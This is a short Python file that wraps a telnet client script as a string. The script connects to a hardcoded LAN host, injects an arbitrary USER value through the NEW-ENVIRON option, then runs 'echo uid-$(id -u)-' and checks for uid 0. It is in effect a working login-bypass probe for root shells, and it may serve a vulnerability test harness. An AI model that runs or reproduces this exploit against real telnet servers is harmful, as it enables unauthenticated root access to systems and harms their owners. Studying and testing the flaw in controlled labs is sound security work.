"""A telnet client that names whatever user it wants, by the option NEW-ENVIRON (RFC 1572); runs on a host."""

CLIENT = r"""
import select, socket, sys, time
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
TERMINAL, SPEED, DISPLAY, NEW_ENVIRON, ECHO, SGA = 24, 32, 35, 39, 1, 3
IS, SEND, VAR, VALUE, USERVAR = 0, 1, 0, 1, 3
user, until = sys.argv[1].encode(), time.monotonic() + float(sys.argv[2])
s = socket.create_connection(("192.168.1.10", 23), 5)
shown, rest, asked = b"", b"", False
escape = lambda data: b"".join(bytes([2, b]) if b < 4 else bytes([b]) for b in data)
while time.monotonic() < until:
    if not select.select([s], [], [], 0.1)[0]:
        continue
    piece = s.recv(4096)
    if not piece:
        break
    rest += piece
    while rest:
        if rest[0] != IAC:
            end = rest.find(IAC)
            shown, rest = shown + (rest if end < 0 else rest[:end]), (b"" if end < 0 else rest[end:])
        elif len(rest) < 2 or (rest[1] in (DO, DONT, WILL, WONT) and len(rest) < 3):
            break
        elif rest[1] in (DO, DONT):
            good = rest[1] == DO and rest[2] in (TERMINAL, NEW_ENVIRON, SGA)
            s.sendall(bytes([IAC, WILL if good else WONT, rest[2]]))
            rest = rest[3:]
        elif rest[1] in (WILL, WONT):
            s.sendall(bytes([IAC, DO if rest[1] == WILL and rest[2] in (ECHO, SGA) else DONT, rest[2]]))
            rest = rest[3:]
        elif rest[1] == SB:
            end = rest.find(bytes([IAC, SE]))
            if end < 0:
                break
            if rest[2] == TERMINAL:
                s.sendall(bytes([IAC, SB, TERMINAL, IS]) + b"vt100" + bytes([IAC, SE]))
            elif rest[2] == NEW_ENVIRON:
                asked = True
                told = bytes([IS, VAR]) + b"USER" + bytes([VALUE]) + escape(user)
                s.sendall(bytes([IAC, SB, NEW_ENVIRON]) + told + bytes([IAC, SE]))
            rest = rest[end + 2:]
        else:
            rest = rest[2:]
    if b"#" in shown or shown.rstrip().endswith((b"login:", b"assword:", b"$")) or b"ncorrect" in shown:
        break
s.sendall(b"echo uid-$(id -u)-\r\n")
time_up = time.monotonic() + (3 if b"#" in shown or b"$" in shown else 0.4)
while time.monotonic() < time_up and b"uid-0-" not in shown:
    if select.select([s], [], [], 0.1)[0]:
        piece = s.recv(4096)
        if not piece:
            break
        shown += piece
print("ASKED" if asked else "NOT ASKED")
sys.stdout.write(shown.decode("latin-1"))
"""
